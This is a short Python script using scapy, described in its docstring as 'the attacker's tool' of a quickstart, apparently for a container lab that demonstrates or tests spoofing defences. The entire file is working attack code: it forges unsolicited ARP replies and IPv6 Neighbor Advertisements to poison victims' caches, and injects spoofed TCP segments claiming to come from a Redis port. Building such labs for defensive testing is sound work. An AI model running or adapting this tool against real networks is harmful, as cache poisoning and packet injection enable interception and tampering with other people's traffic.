#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sends forged frames from eth0: the attacker's tool of the quickstart.

usage: forge.py poison COUNT INTERVAL TARGET...
       forge.py inject COUNT INTERVAL TARGET...

A TARGET is VICTIM-MAC,VICTIM-IP,CLAIMED-IP.  In each of COUNT rounds, INTERVAL
seconds apart, one frame is sent to each victim:

poison  an unsolicited ARP reply or Neighbor Advertisement which says that
        CLAIMED-IP is at this container's MAC address;
inject  a TCP segment from CLAIMED-IP, port 6379, to port 4444.

Prints the number of frames sent.
"""

import sys
import time

from scapy.arch import get_if_hwaddr
from scapy.config import conf
from scapy.layers.inet import IP, TCP
from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6NDOptDstLLAddr, IPv6
from scapy.layers.l2 import ARP, Ether

INTERFACE = "eth0"


def poison(mac, victim_mac, victim, claimed):
    frame = Ether(src=mac, dst=victim_mac)
    if ":" not in victim:
        return frame / ARP(op="is-at", hwsrc=mac, psrc=claimed,
                           hwdst=victim_mac, pdst=victim)
    return (frame / IPv6(src=claimed, dst=victim, hlim=255)
            / ICMPv6ND_NA(tgt=claimed, R=0, S=1, O=1)
            / ICMPv6NDOptDstLLAddr(lladdr=mac))


def inject(mac, victim_mac, victim, claimed):
    ip = IPv6 if ":" in victim else IP
    return (Ether(src=mac, dst=victim_mac) / ip(src=claimed, dst=victim)
            / TCP(sport=6379, dport=4444, flags="PA") / b"+forged\r\n")


def main():
    kinds = {"poison": poison, "inject": inject}
    if len(sys.argv) < 5 or sys.argv[1] not in kinds:
        sys.exit(__doc__)
    make, count, interval = (kinds[sys.argv[1]], int(sys.argv[2]),
                             float(sys.argv[3]))
    mac = get_if_hwaddr(INTERFACE)
    frames = [make(mac, *target.split(",")) for target in sys.argv[4:]]
    socket = conf.L2socket(iface=INTERFACE)
    for i in range(count):
        if i:
            time.sleep(interval)
        for frame in frames:
            socket.send(frame)
    print(count * len(frames))


if __name__ == "__main__":
    main()
